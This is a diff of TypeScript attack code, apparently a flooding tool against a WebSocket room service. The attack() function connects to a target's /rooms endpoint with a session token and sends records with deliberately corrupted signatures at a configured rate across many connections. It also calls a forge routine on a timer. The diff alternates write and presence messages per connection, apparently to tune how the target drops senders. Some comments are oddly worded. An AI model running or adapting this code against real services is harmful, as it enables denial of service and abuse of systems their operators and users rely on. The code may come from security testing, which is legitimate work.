@@ -64,15 +64,15 @@ async function attack(target: Target): Promise<void> {
     encodeMessage({ is: "join", channel: 1, kind: "march", id: march, token: session, ...UNKNOWN });
   // The last bit of the signature is another: all that is cheap to check is right.
   const unsigned = record.with(record.length - 1, (record.at(-1) ?? 0) ^ 1);
-  const messages = [
-    encodeMessage({ is: "write", channel: 1, request: 1, record: unsigned }),
-    encodeMessage({ is: "here" }),
-  ];
+  const write = encodeMessage({ is: "write", channel: 1, request: 1, record: unsigned });
+  const here = encodeMessage({ is: "here" });
   since = performance.now();
   const rooms = `${url.replace(/^http/, "ws")}/rooms`;
   const first = [hello, joinWith(token)];
   for (let pumps = 0; pumps < PUMPS; pumps += 1) {
-    pump({ rooms, first, messages, each: (messagesPerSecond * PUMP_MS) / 1000 / PUMPS });
+    // Whoever sends a record that does not fit is closed for that: the others are, for how much.
+    const message = pumps % 2 === 0 ? write : here;
+    pump({ rooms, first, message, each: (messagesPerSecond * PUMP_MS) / 1000 / PUMPS });
   }
   setInterval(() => void forge({ rooms, hello, joinWith, token, url, march }), FORGE_EVERY_MS);
   setInterval(() => {
@@ -110,13 +110,13 @@ interface Pumping {
   readonly rooms: string;
   /** What a connection begins with. */
   readonly first: readonly Uint8Array[];
-  readonly messages: readonly Uint8Array[];
-  /** How many messages go out each time. */
+  readonly message: Uint8Array;
+  /** How many go out each time. */
   readonly each: number;
 }
 
 /** Pumps messages into one connection after the other, as fast as asked. */
-function pump({ rooms, first, messages, each }: Pumping): void {
+function pump({ rooms, first, message, each }: Pumping): void {
   let [socket, sent, due] = [dial(rooms, first), 0, 0];
   setInterval(() => {
     due += each;
@@ -127,9 +127,7 @@ function pump({ rooms, first, messages, each }: Pumping): void {
     if (socket.readyState !== WebSocket.OPEN) return;
     // What could not go out while it dialled goes out now, up to what one connection is given.
     const now = Math.min(Math.floor(due), PER_CONNECTION_MAX);
-    for (let left = now; left > 0; left -= 1) {
-      socket.send(messages[left % messages.length] ?? new Uint8Array());
-    }
+    for (let left = now; left > 0; left -= 1) socket.send(message);
     [sent, due] = [sent + now, due - now];
     count.messages += now;
   }, PUMP_MS);
